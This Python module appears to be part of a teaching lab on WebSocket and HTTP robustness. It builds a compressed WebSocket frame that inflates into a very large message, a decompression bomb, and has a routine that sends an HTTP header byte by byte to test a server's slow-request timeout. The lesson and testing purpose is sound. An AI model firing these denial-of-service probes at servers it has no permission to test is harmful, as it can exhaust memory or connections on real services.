"""Who sends too much: a message that becomes large, and a head that does not end."""

from __future__ import annotations

import contextlib
import select
import socket
import time
import zlib
from urllib.parse import urlsplit

from rtlab.protocol.frames import Frame, Opcode, encode
from rtlab.protocol.handshake import client_request
from rtlab.teach.lesson_06.by_hand import read_answer
from rtlab.teach.lesson_11.inflate import TAIL, deflate

KEY = "dGhlIHNhbXBsZSBub25jZQ=="
COMPRESSED = 0b100  # RSV1, of the three reserved bits (RFC 7692, section 6)
SECONDS = 20.0


def bomb(size: int) -> bytes:
    """A WebSocket message of `size` zeros as one compressed frame of a client."""
    return encode(Frame(Opcode.BINARY, deflate(bytes(size)), rsv=COMPRESSED, mask=b"rtlb"))


def throw(url: str, frame: bytes, resource: str = "/socket") -> str:
    """Open a WebSocket with compression, send one frame; return the short text that comes back, or how it ended."""
    address = urlsplit(url)
    offer = [("Sec-WebSocket-Extensions", "permessage-deflate")]
    with socket.create_connection((address.hostname or "", address.port or 80), SECONDS) as connection:
        connection.sendall(client_request(address.netloc, resource, KEY, headers=offer))
        head, back = read_answer(connection)
        if b"permessage-deflate" not in head:
            return "no compression"
        with contextlib.suppress(ConnectionError):  # it may hang up while we still write
            connection.sendall(frame)
            while len(back) < 2 or len(back) < 2 + back[1]:  # a short frame: its length is its second byte
                back += connection.recv(4096) or b"\x88\x02\x03\xee"  # as if it had said 1006
        return _told(back)


def _told(frame: bytes) -> str:
    """What a short frame of a server says."""
    payload = frame[2 : 2 + frame[1]] if frame else b""
    if not frame or frame[0] & 0x0F == Opcode.CLOSE:
        return f"closed: {int.from_bytes(payload[:2], 'big') or 1006}"
    if frame[0] & COMPRESSED << 4:
        payload = zlib.decompressobj(-zlib.MAX_WBITS).decompress(payload + TAIL, 125)
    return payload.decode()


def drip(url: str, every: float = 0.1, at_most: float = 1.5) -> float | None:
    """Send a head a byte at a time; seconds until the server hangs up, None when it has patience for `at_most`."""
    address = urlsplit(url)
    head = b"GET / HTTP/1.1\r\nHost: " + address.netloc.encode() + b"\r\nX-Slow: " + b"o" * 10_000
    began = time.monotonic()
    with socket.create_connection((address.hostname or "", address.port or 80), SECONDS) as connection:
        for place in range(len(head)):
            if select.select([connection], [], [], every)[0] or time.monotonic() - began > at_most:
                break
            with contextlib.suppress(ConnectionError):
                connection.sendall(head[place : place + 1])
        took = time.monotonic() - began
    return None if took > at_most else took
